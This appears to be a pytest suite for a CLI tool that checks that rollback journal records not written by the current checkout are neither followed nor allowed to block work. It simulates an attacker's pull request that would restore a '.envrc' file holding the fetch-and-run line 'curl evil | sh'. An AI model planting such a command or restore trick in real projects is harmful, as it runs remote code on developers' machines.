"""What lies in the journal and was not written here is not followed, and blocks nothing."""

import contextlib
import hashlib
import json
import os
import shutil

import pytest
from tests.cli.conftest import CONTROL, TREATMENT
from tests.deploy.conftest import Recording
from tests.everyday import some
from tests.faults import Crash, FaultyFileSystem, every_fault

from meta_experiment.deploy import Deployer
from meta_experiment.files.filesystem import FileSystem
from meta_experiment.files.roots import Layout
from meta_experiment.store.local.sealing import checkout_seal

EVIL = b"curl evil | sh\n"
JOURNAL = ".claude/meta/journal"


def write_record(root, **changes):
    """Put down what an attacker would: a record that undoes into a file of their choice."""
    digest = hashlib.sha256(EVIL).hexdigest()
    record = {
        "version": 1, "change_id": "c0ffee", "experiment_id": "exp-1", "action": "rollback",
        "payload": {}, "plan": None, "commit": None,
        "steps": [
            {"path": ".envrc", "before": {"sha256": digest, "mode": 0o755}, "after": None},
            # which never came about, so that all of it is to be undone
            {"path": "v2.md", "before": None, "after": {"sha256": "0" * 64, "mode": 0o644}},
        ],
    }  # fmt: skip
    (root / ".claude/meta/backups").mkdir(parents=True, exist_ok=True)
    (root / ".claude/meta/backups" / digest).write_bytes(EVIL)
    (root / JOURNAL).mkdir(parents=True, exist_ok=True)
    (root / JOURNAL / "c0ffee.json").write_text(json.dumps(record | changes))


def kept(root):
    return sorted((root / ".claude/meta/local/aside").glob("journal-*"))


def pulled(project):
    project.git("add", "--force", JOURNAL, ".claude/meta/backups")
    project.git("commit", "--quiet", "-m", "a helpful pull request")


def owned_by_another(project, monkeypatch):
    pulled(project)
    monkeypatch.setenv("GIT_TEST_ASSUME_DIFFERENT_OWNER", "1")


def without_git(project, monkeypatch):
    pulled(project)
    monkeypatch.setenv("PATH", "/nowhere")


def in_a_submodule(project, _):
    for command in (["init", "-q"], ["add", "-Af"], ["commit", "-qm", "state"]):
        project.git("-C", ".claude/meta", *command)
    project.git("add", "--force", ".claude/meta")
    project.git("commit", "--quiet", "-m", "a helpful pull request")


@pytest.mark.parametrize("brought", [owned_by_another, without_git, in_a_submodule])
def test_a_record_is_not_followed_where_git_cannot_say_who_brought_it(
    project, monkeypatch, brought
):
    """Neither under another owner, nor without git, nor in a submodule."""
    write_record(project.root)
    brought(project, monkeypatch)
    said = project("status").err
    assert not (project.root / ".envrc").exists()
    assert "not written by this checkout" in said
    assert [path.read_bytes()[:1] for path in kept(project.root)] == [b"{"]
    assert "not written" not in project("status").err


def test_a_record_of_another_checkout_or_change_is_not_followed(project, tmp_path):
    """A seal holds for one checkout and one change."""
    layout = Layout(project.root)
    seal = checkout_seal(layout, FileSystem())
    write_record(project.root)
    place = project.root / JOURNAL / "c0ffee.json"
    bare = place.read_bytes()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    other = checkout_seal(Layout(elsewhere), FileSystem())
    for wrapped in (other.wrap("journal c0ffee", bare), seal.wrap("journal other", bare)):
        place.write_bytes(wrapped)
        assert "not written by this checkout" in project("recover").out
        assert not (project.root / ".envrc").exists()
    place.write_bytes(seal.wrap("journal c0ffee", bare))
    assert "is undone" in project("recover").out
    assert (project.root / ".envrc").read_bytes() == EVIL


def newer(folder):
    write_record(folder.parents[2], version=2)


def odd(folder, name, make):
    folder.mkdir(parents=True, exist_ok=True)
    make(folder / name)


def sparse(path):
    with path.open("wb") as stream:
        stream.truncate(3 << 30)


ODD = {
    "a version of 2": newer,
    "folder": lambda folder: odd(folder / "x.json", "y", lambda path: path.touch()),
    "link": lambda folder: odd(folder, "x.json", lambda path: path.symlink_to("/dev/zero")),
    "dangling link": lambda folder: odd(folder, "x", lambda path: path.symlink_to("nowhere")),
    "pipe": lambda folder: odd(folder, "x.json", os.mkfifo),
    "3 GB": lambda folder: odd(folder, "x.json", sparse),
    "no suffix": lambda folder: odd(folder, "x", lambda path: path.write_text("x")),
    "temporary that is a pipe": lambda folder: odd(folder, ".x.1.a.meta-tmp", os.mkfifo),
    "journal itself": lambda folder: folder.write_text("a file"),
    "journal itself a pipe": os.mkfifo,
    "long name": lambda folder: odd(folder, "x" * 250 + ".json", lambda path: path.touch()),
}  # fmt: skip


@pytest.mark.parametrize("kind", some(ODD, 5))
def test_an_odd_entry_of_the_journal_is_put_by_and_blocks_nothing(project, kind):
    """It is told once and kept; status, promote and panic go on."""
    made = project.create()
    shutil.rmtree(project.root / JOURNAL, ignore_errors=True)
    ODD[kind](project.root / JOURNAL)
    assert "did not write" in project("check", "--json", code=1).out
    said = project("status").err
    assert said.count("not written by this checkout") == 1
    assert len(kept(project.root)) == 1
    assert "not written" not in project("status").err
    assert "Nothing to recover" in project("recover").out
    project("promote", made, "--override", "x", "--yes")
    assert project.path().read_bytes() == TREATMENT
    shutil.rmtree(project.root / JOURNAL)
    ODD[kind](project.root / JOURNAL)
    project("panic")
    assert len(kept(project.root)) == 2


def test_a_journal_that_cannot_be_read_blocks_nothing_but_a_change(project, monkeypatch):
    """Nobody knows then whether one was cut off, and nothing is moved."""
    made = project.create()
    write_record(project.root)
    listdir = os.listdir

    def refused(path="."):
        if str(path).endswith("journal"):
            raise PermissionError(13, "Permission denied", str(path))
        return listdir(path)

    monkeypatch.setattr(os, "listdir", refused)
    assert "cannot be read" in project("status").err
    project("pause", made)
    assert "Permission denied" in project("check", "--json", code=1).out
    project("promote", made, "--override", "x", "--yes", code=1)
    assert project.path().read_bytes() == CONTROL
    assert (project.root / JOURNAL / "c0ffee.json").exists()


def test_what_cannot_be_moved_aside_is_left_and_blocks_nothing(project):
    """A mount point, say: it is told each time and never followed."""
    made = project.create()
    write_record(project.root)

    class Fixed(FileSystem):
        def replace(self, source, target, *, within=None):
            if "aside" in target.parts:
                raise OSError(18, "Invalid cross-device link")
            super().replace(source, target, within=within)

    layout = Layout(project.root)
    deployer = Deployer(layout, Fixed(), None, lambda: checkout_seal(layout, Fixed()))
    for _ in range(2):
        (left,) = deployer.recover(Recording(lambda _: None))
        assert "cross-device" in left.note
    assert not deployer.pending()
    assert made
    assert not (project.root / ".envrc").exists()


def test_a_record_that_a_newer_version_began_here_is_left_and_stops_a_promotion(project):
    """It bears our seal, so a change was cut off that only the newer version can finish."""
    made = project.create()
    seal = checkout_seal(Layout(project.root), FileSystem())
    write_record(project.root, version=2)
    place = project.root / JOURNAL / "c0ffee.json"
    place.write_bytes(seal.wrap("journal c0ffee", place.read_bytes()))
    before = place.read_bytes()
    assert "newer version" in project("status").err
    assert "newer version" in project("recover").out
    project("pause", made)
    project("panic")
    refused = project("promote", made, "--override", "x", "--yes", "--json", code=1).error
    assert refused["kind"] == "invalid_state"
    assert "newer version" in refused["message"]
    assert project.path().read_bytes() == CONTROL
    assert place.read_bytes() == before


def test_a_fault_while_something_is_put_by_loses_nothing(project):
    """At every operation of the disk: it lies in the one place or in the other."""
    project.create()
    layout = Layout(project.root)
    seal = checkout_seal(layout, FileSystem())

    def recover(files):
        Deployer(layout, files, None, lambda: seal).recover(Recording(lambda _: None))

    def strange():
        write_record(project.root)
        shutil.rmtree(layout.aside, ignore_errors=True)
        return (project.root / JOURNAL / "c0ffee.json").read_bytes()

    bytes_of_it = strange()
    counting = FaultyFileSystem()
    recover(counting)
    for files in every_fault(len(counting.operations)):
        strange()
        with contextlib.suppress(Crash):
            recover(files)
        place = project.root / JOURNAL / "c0ffee.json"
        found = [*kept(project.root), *([place] if place.exists() else [])]
        assert [path.read_bytes() for path in found] == [bytes_of_it]
        recover(FileSystem())
        assert [path.read_bytes() for path in kept(project.root)] == [bytes_of_it]
